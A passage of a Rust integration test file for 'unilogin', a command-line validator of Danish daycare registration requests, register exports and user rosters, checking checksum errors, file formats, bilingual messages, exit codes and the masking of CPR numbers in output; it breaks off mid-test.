//! Runs the `unilogin` binary on files and standard input and checks its output and exit status.
#![cfg(test)]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{json, Value};

const BIN: &str = env!("CARGO_BIN_EXE_unilogin");

/// The result of one run.
#[derive(Debug)]
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    /// The stdout parsed as the JSON object of `--format json`.
    fn json(&self) -> Value {
        match serde_json::from_str(&self.stdout) {
            Ok(value @ Value::Object(_)) => value,
            other => panic!("stdout is not a JSON object: {other:?}\n{}", self.stdout),
        }
    }

    /// The problems of `--format json`.
    fn problems(&self) -> Vec<Value> {
        match self.json().get("problems") {
            Some(Value::Array(items)) => items.clone(),
            other => panic!("no problems array: {other:?}\n{}", self.stdout),
        }
    }

    /// `(loc, type)` of every problem, in output order.
    fn locs_and_types(&self) -> Vec<(Value, String)> {
        self.problems()
            .into_iter()
            .map(|p| (p["loc"].clone(), p["type"].as_str().unwrap().to_owned()))
            .collect()
    }

    fn last_line(&self) -> &str {
        self.stdout.lines().last().unwrap_or_default()
    }
}

fn exec(args: &[&str], stdin: Option<&str>) -> Run {
    let mut child = Command::new(BIN)
        .args(args)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary starts");
    if let Some(input) = stdin {
        child
            .stdin
            .take()
            .unwrap()
            .write_all(input.as_bytes())
            .unwrap();
    }
    let output = child.wait_with_output().unwrap();
    Run {
        code: output.status.code().expect("exited, not killed"),
        stdout: String::from_utf8(output.stdout).unwrap(),
        stderr: String::from_utf8(output.stderr).unwrap(),
    }
}

/// Writes `contents` to a fresh file named `name` in the test scratch directory.
fn file(name: &str, contents: impl AsRef<[u8]>) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("unilogin-cli-tests");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, contents).unwrap();
    path
}

fn example(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../examples")
        .join(name)
        .to_str()
        .unwrap()
        .to_owned()
}

fn validate(kind: &str, extra: &[&str], path: &Path) -> Run {
    let mut args = vec!["validate", "--kind", kind];
    args.extend_from_slice(extra);
    args.push(path.to_str().unwrap());
    exec(&args, None)
}

const REQUEST_HEADER: &str = "cvr,p_number,institution_name,street,house_number,postal_code,\
                              city,municipality,email,phone,legal_basis,institution_type";
const VALID_REQUEST: &str = "13585628,1029829825,Børnehuset Mælkebøtten,Nørregade,12B,1165,\
                             København K,Københavns Kommune,kontakt@maelkeboetten.dk,\
                             +45 33 66 33 66,stk. 5,6012";

const REGISTER_HEADER: &str = "anvisningsenhedsNummer;dagtilbudsNavn;instType3;ejerformKode;\
                               kommuneKode_Tekst;vejNavn;husNummer;postNummer;byNavn;\
                               telefonNummer;geoBredde;cvrNummer;pNummer";

fn register_row(number: &str, p_number: &str) -> String {
    format!(
        "{number};Skovbørnehaven Egernet;6011;3;Vesthimmerland;Skolevej;4;9600;Aars;\
         98 62 12 34;56,8031;13585628;{p_number}"
    )
}

fn valid_request_json() -> Value {
    json!({
        "cvr": "13585628", "p_number": "1029829825",
        "institution_name": "Børnehuset Mælkebøtten", "street": "Nørregade",
        "house_number": "12B", "postal_code": "1165", "city": "København K",
        "municipality": "Københavns Kommune", "email": "kontakt@maelkeboetten.dk",
        "phone": "+45 33 66 33 66", "legal_basis": "stk. 5", "institution_type": "6012"
    })
}

// ---- exit status 0 and 1 ------------------------------------------------------------------

#[test]
fn valid_rows_exit_0_with_no_problems_and_a_summary() {
    let path = file(
        "valid.csv",
        format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n{VALID_REQUEST}\n"),
    );
    let json = validate("request", &["--format", "json"], &path);
    assert_eq!(json.code, 0, "{json:?}");
    assert_eq!(json.problems(), Vec::<Value>::new());
    let summary = &json.json()["summary"];
    assert_eq!(summary["rows"], 2);
    assert_eq!(summary["problems"], 0);
    assert_eq!(summary["problems_by_type"], json!({}));
    assert_eq!(summary["complete"], true);
    assert_eq!(json.json()["error"], Value::Null);
    assert!(json.stderr.is_empty(), "{json:?}");

    let text = validate("request", &["--lang", "en"], &path);
    assert_eq!(text.code, 0, "{text:?}");
    assert_eq!(
        text.stdout,
        "2 rows read, 0 rows with problems, 0 problems\n"
    );
}

#[test]
fn a_header_without_rows_is_an_input_error_like_an_empty_json_lines_file() {
    for path in [
        file("header-only.csv", format!("{REQUEST_HEADER}\n")),
        file("blank.jsonl", "\n \n"),
    ] {
        let run = validate("request", &["--format", "json"], &path);
        assert_eq!(run.code, 2, "{run:?}");
        assert_eq!(run.problems(), Vec::<Value>::new());
        assert_eq!(run.json()["error"]["type"], "file_no_rows", "{run:?}");
        assert_eq!(run.json()["summary"]["rows"], 0, "{run:?}");
        assert!(run.stderr.contains("[file_no_rows]"), "{run:?}");
    }
}

#[test]
fn semicolon_csv_locates_a_bad_p_number_at_its_data_row() {
    let path = file(
        "register-semicolon.csv",
        format!(
            "{REGISTER_HEADER}\n{}\n{}\n{}\n",
            register_row("G18062", "1029829825"),
            register_row("G18063", "1006959438"),
            register_row("G18064", "1029829824"),
        ),
    );
    let run = validate("register", &["--format", "json", "--lang", "en"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    let problems = run.problems();
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(
        problems[0],
        json!({
            "type": "p_number_checksum",
            "loc": [2, "p_number"],
            "msg": "P-number 1029829824 is invalid (its check digit does not match)",
            "input": "1029829824",
            "line": 4,
            "ctx": {"p_number": "1029829824"}
        })
    );
}

#[test]
fn comma_and_tab_csv_are_detected_from_the_header() {
    let comma = register_row("G18062", "1029829824").replace(';', ",");
    let comma = comma.replace("56,8031", "56.8031");
    let header = REGISTER_HEADER.replace(';', ",");
    let path = file("register-comma.csv", format!("{header}\n{comma}\n"));
    let run = validate("register", &["--format", "json"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(
        run.locs_and_types(),
        [(json!([0, "p_number"]), "p_number_checksum".to_owned())]
    );

    let tab = register_row("G18062", "1029829824").replace(';', "\t");
    let header = REGISTER_HEADER.replace(';', "\t");
    let path = file("register-tab.tsv", format!("{header}\n{tab}\n"));
    let run = validate("register", &["--format", "json"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(
        run.locs_and_types(),
        [(json!([0, "p_number"]), "p_number_checksum".to_owned())]
    );
}

#[test]
fn quoted_fields_may_contain_the_delimiter() {
    let path = file(
        "quoted.csv",
        format!(
            "{REQUEST_HEADER}\n{}\n",
            VALID_REQUEST.replace("stk. 5", "\"Privat, dagtilbudslovens § 19, stk. 5\"")
        ),
    );
    let run = validate("request", &["--format", "json"], &path);
    assert_eq!(run.code, 0, "{run:?}");
}

#[test]
fn a_byte_order_mark_before_a_quoted_header_is_skipped() {
    let header = REGISTER_HEADER
        .split(';')
        .map(|c| format!("\"{c}\""))
        .collect::<Vec<_>>()
        .join(";");
    let mut bytes = "\u{feff}".as_bytes().to_vec();
    bytes.extend_from_slice(
        format!("{header}\r\n{}\r\n", register_row("G18062", "1029829825")).as_bytes(),
    );
    let path = file("bom.csv", bytes);
    let run = validate("register", &["--format", "json"], &path);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.problems(), Vec::<Value>::new());
}

#[test]
fn unknown_columns_are_ignored() {
    let path = file(
        "extra-columns.csv",
        format!("noter,{REQUEST_HEADER},oprettet\nring først,{VALID_REQUEST},2024-05-01\n"),
    );
    let run = validate("request", &["--format", "json"], &path);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.problems(), Vec::<Value>::new());
}

#[test]
fn the_text_summary_counts_the_unknown_columns_it_does_not_list() {
    let extra: Vec<String> = (0..150).map(|i| format!("x{i}")).collect();
    let path = file(
        "many-extra-columns.csv",
        format!(
            "{REQUEST_HEADER},{}\n{VALID_REQUEST}{}\n",
            extra.join(","),
            ",".repeat(extra.len())
        ),
    );
    let run = validate("request", &["--lang", "en"], &path);
    assert_eq!(run.code, 0, "{run:?}");
    let ignored = run
        .stdout
        .lines()
        .find(|l| l.starts_with("Ignored columns: "))
        .unwrap_or_else(|| panic!("{run:?}"));
    assert!(
        ignored.starts_with("Ignored columns: x0, x1, "),
        "{ignored}"
    );
    assert!(ignored.ends_with(", x99, and 50 more"), "{ignored}");
    let json = validate("request", &["--format", "json"], &path).json();
    assert_eq!(json["summary"]["unknown_columns_omitted"], 50);
    let danish = validate("request", &[], &path);
    assert!(danish.stdout.contains(", x99, og 50 flere\n"), "{danish:?}");
}

#[test]
fn blank_csv_lines_are_not_rows() {
    let bad = VALID_REQUEST.replace("13585628", "13585627");
    let path = file(
        "blank-lines.csv",
        format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n\n{bad}\n"),
    );
    let run = validate("request", &["--lang", "en"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(
        run.stdout,
        "row 1 (line 4), cvr: CVR number 13585627 is invalid (its check digit does not match) \
         [cvr_checksum] (input: \"13585627\")\n\
         Problems per type: cvr_checksum 1\n\
         2 rows read, 1 row with problems, 1 problem\n"
    );
}

// ---- JSON Lines and standard input ----------------------------------------------------------

#[test]
fn stdin_is_read_as_json_lines_and_blank_lines_are_not_counted() {
    let mut second = valid_request_json();
    second["cvr"] = json!("13585627");
    second["phone"] = json!("33663366 / 40404040");
    let input = format!("{}\n\n   \n{second}\n", valid_request_json());
    let run = exec(
        &["validate", "--kind", "request", "--format", "json", "-"],
        Some(&input),
    );
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(
        run.locs_and_types(),
        [
            (json!([1, "cvr"]), "cvr_checksum".to_owned()),
            (json!([1, "phone"]), "phone_multiple".to_owned()),
        ]
    );
}

#[test]
fn json_lines_numbers_are_taken_as_text_and_absent_keys_are_missing() {
    let mut request = valid_request_json();
    request["cvr"] = json!(13_585_628);
    request.as_object_mut().unwrap().remove("email");
    let path = file("numbers.jsonl", format!("{request}\n"));
    let run = validate("request", &["--format", "json"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    let problems = run.problems();
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(problems[0]["type"], "missing");
    assert_eq!(problems[0]["loc"], json!([0, "email"]));
    assert_eq!(problems[0]["input"], Value::Null);
}

#[test]
fn text_output_names_row_line_field_message_type_and_input() {
    let run = exec(
        &["validate", "--kind", "request", "-"],
        Some(&format!("{}\n", json!({"cvr": "13585627"}))),
    );
    assert_eq!(run.code, 1, "{run:?}");
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines[0],
        "række 0 (linje 1), cvr: CVR-nummeret 13585627 er ugyldigt (kontrolcifferet passer ikke) \
         [cvr_checksum] (input: \"13585627\")"
    );
    // A missing value has no input to show.
    assert_eq!(
        lines[1],
        "række 0 (linje 1), p_number: Feltet skal udfyldes [missing]"
    );
    assert_eq!(run.last_line(), "1 række læst, 1 række med fejl, 12 fejl");
}

#[test]
fn messages_follow_lang_and_codes_do_not() {
    let path = file(
        "lang.csv",
        format!(
            "{REQUEST_HEADER}\n{}\n",
            VALID_REQUEST.replace("13585628", "13585627")
        ),
    );
    let da = validate("request", &["--format", "json"], &path).problems();
    let en = validate("request", &["--format", "json", "--lang", "en-GB"], &path).problems();
    assert_eq!(
        da[0]["msg"],
        "CVR-nummeret 13585627 er ugyldigt (kontrolcifferet passer ikke)"
    );
    assert_eq!(
        en[0]["msg"],
        "CVR number 13585627 is invalid (its check digit does not match)"
    );
    for (d, e) in da.iter().zip(&en) {
        assert_eq!(d["type"], e["type"]);
        assert_eq!(d["loc"], e["loc"]);
        assert_eq!(d["ctx"], e["ctx"]);
    }

    let text_en = validate("request", &["--lang", "en"], &path);
    assert_eq!(
        text_en.last_line(),
        "1 row read, 1 row with problems, 1 problem"
    );
    let text_da = validate("request", &["--lang", "da"], &path);
    assert_eq!(
        text_da.last_line(),
        "1 række læst, 1 række med fejl, 1 fejl"
    );
}

// ---- exit status 2 --------------------------------------------------------------------------

#[test]
fn a_missing_file_exits_2_with_a_message() {
    let run = exec(
        &["validate", "--kind", "request", "does-not-exist.csv"],
        None,
    );
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stdout.is_empty(), "{run:?}");
    assert!(
        run.stderr.starts_with(
            "unilogin: does-not-exist.csv: Filen kan ikke læses: filen findes ikke [file_unreadable]"
        ),
        "{run:?}"
    );
    assert_eq!(run.stderr.lines().count(), 1, "{run:?}");
}

#[test]
fn unknown_kind_format_and_lang_exit_2() {
    let path = file("usage.csv", format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n"));
    let path = path.to_str().unwrap();
    for args in [
        vec!["validate", "--kind", "agreement", path],
        vec!["validate", "--kind", "request", "--format", "xml", path],
        vec!["validate", "--kind", "request", "--lang", "sv", path],
        vec!["validate", path],
        vec!["validate", "--kind", "request"],
        vec!["frobnicate"],
    ] {
        let run = exec(&args, None);
        assert_eq!(run.code, 2, "{args:?}: {run:?}");
        assert!(run.stdout.is_empty(), "{args:?}: {run:?}");
        assert!(!run.stderr.is_empty(), "{args:?}: {run:?}");
    }
    let run = exec(&["validate", "--kind", "agreement", path], None);
    assert!(run.stderr.contains("agreement"), "{run:?}");
    assert!(run.stderr.contains("request, register, user"), "{run:?}");
}

#[test]
fn a_json_line_that_is_not_an_object_exits_2_naming_the_line() {
    let path = file(
        "not-object.jsonl",
        format!("{}\n\n[1, 2]\n", valid_request_json()),
    );
    let run = validate("request", &[], &path);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains(
            "Linje 3 er ikke et JSON-objekt, men en liste; skriv ét objekt pr. linje (JSON Lines) \
             [json_line_not_object]"
        ),
        "{run:?}"
    );

    let run = exec(
        &["validate", "--kind", "request", "--lang", "en", "-"],
        Some("{\"cvr\": \"1\"\n"),
    );
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.starts_with(
            "unilogin: standard input: Line 1 is not valid JSON (column 11): EOF while parsing \
             an object [json_line_invalid]"
        ),
        "{run:?}"
    );
}

#[test]
fn json_output_stays_an_array_when_the_input_breaks_after_problems() {
    let path = file(
        "breaks.jsonl",
        format!("{}\n\"text\"\n", json!({"cvr": "13585627"})),
    );
    let run = validate("request", &["--format", "json"], &path);
    assert_eq!(run.code, 2, "{run:?}");
    assert_eq!(run.problems()[0]["type"], "cvr_checksum");
    assert!(
        run.stderr
            .contains("Linje 2 er ikke et JSON-objekt, men en tekst"),
        "{run:?}"
    );
}

#[test]
fn a_ragged_csv_row_exits_2_naming_row_and_line() {
    let path = file(
        "ragged.csv",
        format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n{VALID_REQUEST},extra\n"),
    );
    let run = validate("request", &["--lang", "en"], &path);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains(
            "Row 1 (line 3) has 13 fields, but the header has 12; quote fields that contain the \
             delimiter [csv_row_length]"
        ),
        "{run:?}"
    );
}

#[test]
fn windows_1252_csv_keeps_its_danish_letters() {
    // A row saved as Windows-1252, as spreadsheet programs on Danish Windows do: `ø` is one
    // byte that is not UTF-8. The row is read as Windows-1252 and the letters survive.
    let mut bytes = format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n").into_bytes();
    let bad_cvr = VALID_REQUEST.replacen("13585628", "13585627", 1);
    bytes.extend(bad_cvr.chars().map(|c| u8::try_from(u32::from(c)).unwrap()));
    bytes.push(b'\n');
    let path = file("latin1.csv", bytes);
    let run = validate("request", &["--format", "json"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(
        run.locs_and_types(),
        [(json!([1, "cvr"]), "cvr_checksum".to_owned())]
    );
}

#[test]
fn a_header_naming_no_field_of_the_kind_exits_2() {
    let path = file(
        "wrong-kind.csv",
        format!("{REQUEST_HEADER}\n{VALID_REQUEST}\n"),
    );
    // The request's columns are partly register columns too (cvr, email, …), so use a header
    // that names nothing of either kind.
    let other = file("no-fields.csv", "navn;adresse\nSolsikken;Skolevej 4\n");
    let run = validate("register", &["--lang", "en"], &other);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr
            .contains("No column of the header names a register field (found navn, adresse;"),
        "{run:?}"
    );
    assert!(run.stderr.contains("--kind"), "{run:?}");
    // A request file read as a register file is read, and its rows have problems.
    assert_eq!(validate("register", &[], &path).code, 1);
}

#[test]
fn unknown_extensions_and_empty_files_exit_2() {
    let xlsx = file("export.xlsx", "not read");
    let run = validate("register", &["--lang", "en"], &xlsx);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains("The extension .xlsx is neither CSV"),
        "{run:?}"
    );

    let empty = file("empty.csv", "");
    let run = validate("register", &["--lang", "en"], &empty);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("empty"), "{run:?}");
}

#[test]
fn help_describes_the_command_with_an_example() {
    let top = exec(&["--help"], None);
    assert_eq!(top.code, 0);
    assert!(top.stdout.contains("unilogin validate --kind register"));
    let sub = exec(&["validate", "--help"], None);
    assert_eq!(sub.code, 0);
    for needle in [
        "--kind",
        "--kind user",
        "DDMMYY-****",
        "--format",
        "--lang",
        "0-based",
        "Exit status",
        "Examples",
    ] {
        assert!(sub.stdout.contains(needle), "{needle}: {}", sub.stdout);
    }
}

// ---- the example files give the results examples/README.md documents ------------------------

#[test]
fn example_register_csv() {
    let path = example("register.csv");
    let run = exec(
        &["validate", "--kind", "register", "--format", "json", &path],
        None,
    );
    assert_eq!(run.code, 1, "{run:?}");
    let expected = [
        (json!([3, "p_number"]), "p_number_checksum"),
        (json!([5, "phone"]), "phone_multiple"),
        (json!([6, "p_number"]), "unilogin_requires_p_number"),
        (
            json!([7, "placement_unit_number"]),
            "institution_number_legacy",
        ),
        (json!([8, "postal_code"]), "postal_code_format"),
    ]
    .map(|(loc, kind)| (loc, kind.to_owned()));
    assert_eq!(run.locs_and_types(), expected);

    let da = run_example_text("register", &path, "da");
    assert_eq!(da.code, 1);
    assert_eq!(da.last_line(), "13 rækker læst, 5 rækker med fejl, 5 fejl");
    assert!(
        da.stdout.starts_with("række 3 (linje 5), p_number: "),
        "{da:?}"
    );
    let en = run_example_text("register", &path, "en");
    assert_eq!(
        en.last_line(),
        "13 rows read, 5 rows with problems, 5 problems"
    );
}

fn run_example_text(kind: &str, path: &str, lang: &str) -> Run {
    exec(&["validate", "--kind", kind, "--lang", lang, path], None)
}

#[test]
fn example_requests_jsonl_and_csv_give_the_same_problems() {
    let expected = [
        (json!([2, "cvr"]), "cvr_checksum"),
        (json!([2, "legal_basis"]), "legal_basis_not_accepted"),
        (json!([3, "municipality"]), "municipality_suggestion"),
        (json!([3, "email"]), "email_format"),
        (
            json!([3, "institution_type"]),
            "institution_type_not_accepted",
        ),
        (json!([4, "p_number"]), "missing"),
        (json!([4, "phone"]), "phone_first_digit"),
    ]
    .map(|(loc, kind)| (loc, kind.to_owned()));
    let mut outputs = Vec::new();
    for name in ["requests.jsonl", "requests.csv"] {
        let path = example(name);
        let run = exec(
            &["validate", "--kind", "request", "--format", "json", &path],
            None,
        );
        assert_eq!(run.code, 1, "{name}: {run:?}");
        assert_eq!(run.locs_and_types(), expected, "{name}");
        outputs.push(run.problems());

        let en = run_example_text("request", &path, "en");
        assert_eq!(
            en.last_line(),
            "6 rows read, 3 rows with problems, 7 problems",
            "{name}"
        );
        let da = run_example_text("request", &path, "da");
        assert_eq!(
            da.last_line(),
            "6 rækker læst, 3 rækker med fejl, 7 fejl",
            "{name}"
        );
    }
    assert_eq!(outputs[0], outputs[1]);
    assert_eq!(outputs[0][2]["msg"], "Ukendt kommune; mente du Vejle?");
}

// ---- user rosters (--kind user) -------------------------------------------------------------

/// Every CPR number in `text`: ten digits, with or without a dash after the sixth.
fn cpr_numbers(text: &str) -> Vec<String> {
    let digits: Vec<char> = text.chars().collect();
    let mut found = Vec::new();
    for start in 0..digits.len() {
        let candidate: String = digits[start..].iter().take(11).collect();
        let compact: String = candidate.chars().filter(|c| *c != '-').collect();
        let shaped = candidate.len() == 11
            && candidate.chars().nth(6) == Some('-')
            && compact.len() == 10
            && compact.chars().all(|c| c.is_ascii_digit());
        let plain: String = digits[start..].iter().take(10).collect();
        if shaped {
            found.push(compact);
        } else if plain.len() == 10 && plain.chars().all(|c| c.is_ascii_digit()) {
            found.push(plain);
        }
    }
    found
}

/// Fails if `output` holds any CPR number of `source` whole (with or without the dash).
fn assert_no_cpr_number(output: &str, source: &str) {
    let numbers = cpr_numbers(source);
    assert!(
        !numbers.is_empty(),
        "the source has CPR numbers to look for"
    );
    for number in numbers {
        let dashed = format!("{}-{}", &number[..6], &number[6..]);
        assert!(
            !output.contains(&number) && !output.contains(&dashed),
            "{number} is shown whole:\n{output}"
        );
    }
}

#[test]
fn example_users_csv() {
    let path = example("users.csv");
    let source = std::fs::read_to_string(&path).unwrap();
    let run = exec(
        &["validate", "--kind", "user", "--format", "json", &path],
        None,
    );
    assert_eq!(run.code, 1, "{run:?}");
    let expected = [
        (json!([4, "cpr"]), "cpr_date"),
        (json!([5, "cpr"]), "cpr_format"),
        (json!([6, "grade"]), "grade_required"),
        (json!([7, "grade"]), "grade_not_applicable"),
        (json!([8, "username"]), "username_format"),
        (json!([9, "cpr"]), "missing"),
        (
            json!([11, "institution_number"]),
            "institution_number_legacy",
        ),
    ]
    .map(|(loc, kind)| (loc, kind.to_owned()));
    assert_eq!(run.locs_and_types(), expected);
    let problems = run.problems();
    assert_eq!(problems[0]["input"], "310221-****");
    assert_eq!(problems[1]["input"], "***********");
    assert_eq!(problems[3]["ctx"], json!({"role": "parent"}));
    assert_no_cpr_number(&run.stdout, &source);

    let en = run_example_text("user", &path, "en");
    assert_eq!(
        en.last_line(),
        "12 rows read, 7 rows with problems, 7 problems"
    );
    assert!(
        en.stdout.starts_with(
            "row 4 (line 6), cpr: The first six digits of the CPR number are not a valid date \
             [cpr_date] (input: \"310221-****\")\n"
        ),
        "{en:?}"
    );
    assert_no_cpr_number(&en.stdout, &source);
    let da = run_example_text("user", &path, "da");
    assert_eq!(da.last_line(), "12 rækker læst, 7 rækker med fejl, 7 fejl");
}

#[test]
fn user_json_lines_mask_a_bad_cpr_number_in_the_json_output() {
    let valid = json!({
        "cpr": "150320-4120", "first_name": "Freja", "last_name": "Prøvesen",
        "role": "elev", "grade": "0.A", "institution_number": "G18062"
    });
    let mut bad_date = valid.clone();
    bad_date["cpr"] = json!("3102214060");
    let mut bad_format = valid.clone();
    bad_format["cpr"] = json!("150320-41200");
    let input = format!("{valid}\n{bad_date}\n{bad_format}\n");
    let run = exec(
        &["validate", "--kind", "user", "--format", "json", "-"],
        Some(&input),
    );
    assert_eq!(run.code, 1, "{run:?}");
    let problems = run.problems();
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert_eq!(
        problems[0],
        json!({
            "type": "cpr_date",
            "loc": [1, "cpr"],
            "msg": "CPR-nummerets første seks cifre er ikke en gyldig dato",
            "input": "310221-****",
            "line": 2,
            "ctx": {}
        })
    );
    assert_eq!(problems[1]["type"], "cpr_format");
    assert_eq!(problems[1]["input"], "************");
    assert_no_cpr_number(&run.stdout, &input);

    let text = exec(&["validate", "--kind", "user", "-"], Some(&input));
    assert_eq!(text.code, 1, "{text:?}");
    assert_no_cpr_number(&text.stdout, &input);
}

#[test]
fn a_valid_user_file_exits_0() {
    let path = file(
        "users-valid.csv",
        "cpr,alias,fornavn,efternavn,rolle,klassetrin,instnr\n\
         150320-4120,,Freja,Prøvesen,elev,0,G18062\n\
         090387-4318,Er.Navne.Beskyttet,Karen,Fiktivsen,forælder,,G18062\n",
    );
    let run = validate("user", &["--format", "json"], &path);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.problems(), Vec::<Value>::new());
}

#[test]
fn as_of_checks_user_rows_against_a_reference_date() {
    // Issue 13 item 11: a pupil born in 2037 and a three-year-old in grade 9.
    let path = file(
        "users-dates.csv",
        "cpr,fornavn,efternavn,rolle,klassetrin,instnr\n\
         150337-5120,Freja,Prøvesen,elev,5,G18062\n\
         150323-4120,Bo,Prøvesen,elev,9,G18062\n\
         150320-4120,Ida,Prøvesen,elev,0,G18062\n",
    );
    let without = validate("user", &["--format", "json"], &path);
    assert_eq!(without.code, 0, "{without:?}");
    let with = validate(
        "user",
        &["--format", "json", "--as-of", "2026-08-15"],
        &path,
    );
    assert_eq!(with.code, 1, "{with:?}");
    let expected = [
        (json!([0, "cpr"]), "cpr_date_in_future".to_owned()),
        (json!([1, "grade"]), "age_outside_grade_band".to_owned()),
    ];
    assert_eq!(with.locs_and_types(), expected);
    assert_eq!(with.problems()[0]["input"], "150337-****");
    assert_eq!(with.problems()[1]["ctx"]["age"], 3);
    // `--as-of` wins over the policy file's `as_of`; the file's date applies without it.
    let policy = file("as-of-policy.json", r#"{"as_of": "2000-01-01"}"#);
    let policy = policy.to_str().unwrap();
    let from_file = validate("user", &["--format", "json", "--policy", policy], &path);
    assert_eq!(from_file.code, 1, "{from_file:?}");
    assert_eq!(from_file.problems()[0]["type"], "cpr_date_in_future");
    let both = validate(
        "user",
        &[
            "--format",
            "json",
            "--policy",
            policy,
            "--as-of",
            "2026-08-15",
        ],
        &path,
    );
    assert_eq!(both.locs_and_types(), expected);
    // `today` (the system's date) is accepted; what it finds depends on the day.
    let today = validate("user", &["--format", "json", "--as-of", "today"], &path);
    assert_ne!(today.code, 2, "{today:?}");
    let bad = validate("user", &["--as-of", "15.08.2026"], &path);
    assert_eq!(bad.code, 2, "{bad:?}");
    assert!(bad.stderr.contains("YYYY-MM-DD"), "{bad:?}");
}

#[test]
fn a_user_file_without_a_header_does_not_print_its_cpr_numbers() {
    let source = "150320-4120;Freja;Prøvesen;elev;0;G18062\n";
    let path = file("users-no-header.csv", source);
    let run = validate("user", &[], &path);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("[csv_no_known_column]"), "{run:?}");
    assert!(run.stderr.contains("150320-****"), "{run:?}");
    assert_no_cpr_number(&run.stderr, source);
}

// ---- formats, summary, limits and progress (issue 7) -----------------------------------------

/// A register export as a spreadsheet on Danish Windows saves it: semicolons, Windows-1252.
fn windows_1252_register() -> PathBuf {
    let text = format!(
        "{REGISTER_HEADER};telefonNumer\n{};\n{};\n",
        register_row("G18062", "1029829825"),
        register_row("G18063", "1029829825")
            .replace("Vesthimmerland", "Frederiksbærg")
            .replace("Skovbørnehaven", "Østerbro Børnehave"),
    );
    let bytes: Vec<u8> = text
        .chars()
        .map(|c| u8::try_from(u32::from(c)).unwrap())
        .collect();
    file("windows-1252.csv", bytes)
}

#[test]
fn a_windows_1252_semicolon_export_reads_correctly_with_a_summary() {
    let path = windows_1252_register();
    let run = validate("register", &["--lang", "en"], &path);
    assert_eq!(run.code, 1, "{run:?}");
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "row 1 (line 3), municipality: Unknown municipality; did you mean Frederiksberg? \
             [municipality_suggestion] (input: \"Frederiksbærg\")",
            "warning: Column telefonNumer is not used and is ignored; did you mean \
             telefonNummer?",
            "Ignored columns: geoBredde",
            "Encoding: Windows-1252 (from line 2)",
            "Problems per type: municipality_suggestion 1",
            "2 rows read, 1 row with problems, 1 problem",
        ]
    );
    let json = validate("register", &["--format", "json"], &path).json();
    let summary = &json["summary"];
    assert_eq!(summary["encoding"], "windows-1252");
    assert_eq!(summary["delimiter"], ";");
    assert_eq!(
        summary["problems_by_type"],
        json!({"municipality_suggestion": 1})
    );
    assert_eq!(
        summary["unknown_columns"][1],
        json!({"type": "column_suggestion", "column": "telefonNumer", "position": 13,
               "line": 1, "suggestion": "telefonNummer",
               "msg": "Kolonnen telefonNumer bruges ikke og ignoreres; mente du telefonNummer?"})
    );
    assert_eq!(json["problems"][0]["input"], "Frederiksbærg");
}

#[test]
fn a_policy_file_overrides_the_rules_of_medium_or_low_confidence() {
    let csv = file(
        "dagpleje-request.csv",
        format!(
            "{REQUEST_HEADER}\n{}\n",
            VALID_REQUEST.replace(",6012", ",6013")
        ),
    );
    let strict = validate("request", &["--format", "json"], &csv);
    assert_eq!(strict.code, 1, "{strict:?}");
    assert_eq!(
        strict.json()["problems"][0]["type"],
        "institution_type_not_accepted"
    );
    let policy = file(
        "dagpleje-policy.json",
        r#"{"request_institution_types": [6010, 6011, 6012, 6013]}"#,
    );
    let policy = policy.to_str().unwrap();
    let host = validate("request", &["--policy", policy], &csv);
    assert_eq!(host.code, 0, "{host:?}");
    // A policy with a typo is an input error, naming the field.
    let typo = file(
        "typo-policy.json",
        r#"{"request_institution_type": [6013]}"#,
    );
    let run = validate(
        "request",
        &["--policy", typo.to_str().unwrap(), "--lang", "en"],
        &csv,
    );
    assert_eq!(run.code, 2, "{run:?}");
    assert!(run.stderr.contains("request_institution_type"), "{run:?}");
    assert!(run.stderr.contains("[json_invalid]"), "{run:?}");
}

#[test]
fn request_files_with_the_guides_labels_or_the_registers_names_are_read() {
    // Until issue 13 both were refused with csv_no_known_column.
    let guide = file(
        "guide-labels.csv",
        "CVR-nummer;P-nummer;Institutionens navn;Vejnavn;Husnummer;Postnummer;By;Kommunenavn;\
         Email-adresse;Telefonnummer;Lovgrundlag;Institutionstype;CVR-nr.\n\
         13585628;1029829825;Børnehuset Mælkebøtten;Nørregade;12B;1165;København K;København;\
         kontakt@maelkeboetten.dk;+45 33 66 33 66;stk. 5;6012;\n",
    );
    let run = validate("request", &["--format", "json", "--lang", "en"], &guide);
    assert_eq!(run.code, 0, "{run:?}");
    let json = run.json();
